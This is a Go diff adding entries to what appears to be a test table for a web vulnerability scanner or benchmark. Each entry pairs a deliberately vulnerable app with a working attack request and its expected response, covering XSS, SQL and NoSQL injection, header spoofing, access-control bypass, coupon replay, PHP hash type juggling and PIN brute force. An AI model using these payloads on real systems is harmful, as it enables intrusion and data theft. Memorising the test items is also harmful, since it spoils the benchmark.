@@ -26,6 +26,10 @@ var third = []flow{
 		{"/hello", "xss", "weak", "- GET /hello?reader=$%7Balert(7)%7D => = `Good evening, \\$\\{alert\\(7\\)\\}`"}}},
 	{"marathon", "node", pairs, "", "-", "", []step{
 		{"/**", "xss", "weak", "- POST /thanks msg=%3Csvg/onload=alert(7)%3E ; - GET / => <svg/onload=alert\\(7\\)>"}}},
+	{"haiku", "python", pairs, "", "-", "", []step{
+		{"/find.json", "xss", "weak", "- GET /find.json?word=%3Csvg+onload=alert(7)%3E => ^200 text/html(?s).*<svg onload=alert"}}},
+	{"motorforum", "php", pairs, "", "-", "", []step{
+		{"/**", "xss", "weak", "- POST /index.php by=q&post=[img]/q7\"+onerror=\"alert(7)[/img] ; - GET / => src=\"/q7\" onerror=\"alert"}}},
 
 	// Statements.
 	{"atelier", "python", pairs, "", "-", "", []step{
@@ -36,6 +40,8 @@ var third = []flow{
 		{"/catalogo", "sql", "weak", "- POST /catalogo ordina=mag*-1 => dist(?s).*<tr><td>Mira(.*)Deneb(.*)Vega(.*)Sirius"}}},
 	{"vinyl", "python", pairs, "", "-", "", []step{
 		{"/dig", "sql", "weak", "- GET /dig?needle=zzz'oorr'1'LIKE'1 => Nevermind"}}},
+	{"birds", "python", pairs, "", "-", "", []step{
+		{"/species/*", "sql", "weak", "- GET /species/0%20OR%20secret=1 => quarry 4"}}},
 
 	// Commands, templates, files, documents, objects.
 	{"registrar", "php", pairs, "", "-", "", []step{
@@ -86,10 +92,16 @@ var third = []flow{
 		{"/projection", "bfla", "weak", "ticket.joy [Cookie: role=admin] GET /projection => Key of the vault"}}},
 	{"census", "python", pairs, "form /on clerk word", "clerk.a:Ledger/One clerk.b:Ledger/Two", "", []step{
 		{"/supervisor/rolls", "bfla", "weak", "clerk.a PUT /supervisor/rolls => on parole"}}},
+	{"canteen", "python", pairs, "form /hello/ parent pass", "mum.lind:Packed+Lunch1 dad.roy:Packed+Lunch2", "", []step{
+		{"/card/", "bola", "weak", "-a GET /hello/ ; -a POST /hello/ parent=mum.lind&pass=Packed%2BLunch1&csrfmiddlewaretoken={hidden:csrfmiddlewaretoken} ; -a GET /family/ ; -a POST /card/ kid=4102&csrfmiddlewaretoken={hidden:csrfmiddlewaretoken} => epilepsy"}}},
+	{"wind", "python", pairs, "", "-", "", []step{
+		{"/control", "bfla", "weak", "- [X-Forwarded-For: 127.0.0.1] GET /control => 5521-X"}}},
 	{"rota", "node", pairs, "", "-", "", []step{
 		{"/api/volunteers", "mass", "weak", `-a POST /api/volunteers {"email":"q7@q.example","secret":"q7x","name":"q","organiser":true} ; -a POST /api/session {"email":"q7@q.example","secret":"q7x"} ; -a GET /api/contacts => 555-0173`}}},
 	{"skipass", "node", pairs, "cookie-json /session client mdp", "lou.m:Powder.day1 vic.t:Chair.lift2", "", []step{
 		{"/panier/lignes", "logic", "weak", `lou.m POST /panier/lignes {"article":"week","pieces":-1} ; lou.m GET /panier => "total":-340`}}},
+	{"bikes", "node", pairs, "cookie-json /app/unlock rider lock", "rider.pia:Spoke-31 rider.tom:Spoke-32", "", []step{
+		{"/app/bonus", "logic", "weak", `rider.pia POST /app/bonus {"code":"SPRING4"} ; rider.pia POST /app/bonus {"code":"SPRING4"} ; rider.pia GET /app/credit => "credit":18`}}},
 	{"ferry", "node", pairs, "", "-", "", []step{
 		{"/rezervacija", "logic", "weak", "- POST /rezervacija linija=2&cijena=1&ime=q7 => platiti: 1 EUR"}}},
 
@@ -106,6 +118,10 @@ var third = []flow{
 		{"/**", "jwt", "weak", "- [Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJxNyIsInJvbGUiOiJjb250cm9sbGVyIiwiZXhwIjo0MTAyNDQ0ODAwfQ.d2hhdGV2ZXI] GET /v1/control/airspace => sector 9"}}},
 	{"locker", "python", pairs, "", "-", "", []step{
 		{"/oeffnen", "limit", "weak", strings.Repeat("- POST /oeffnen pin=0000 ; ", 12) + "- POST /oeffnen pin=4821 => ist offen"}}},
+	{"raffle", "php", pairs, "", "-", "", []step{
+		{"/**", "tamper", "weak", "- POST /index.php prize=bicycle&seal=9e8e37aeb4449d579e9a58ce02e9f2fd&claim=1 => Please collect: bicycle"}}},
+	{"archery", "php", pairs, "", "-", "", []step{
+		{"/", "juggling", "weak", "- POST / word=QNKCDZO => Gate: 7-7-3"}}},
 	{"apiary", "node", pairs, "form /kupa/in mail word", "ina@hive.example:Linden-Honey-3 sten@hive.example:Heather-Honey-4", "", []step{
 		{"/kupa/in", "nosql", "weak", "- POST /kupa/in mail[$ne]=q7&word[$ne]=q7 => ^302"}}},
 	{"dome", "node", pairs, "form /inn navn kode", "guest.kari:Polaris+1 guest.olav:Capella+2", "", []step{
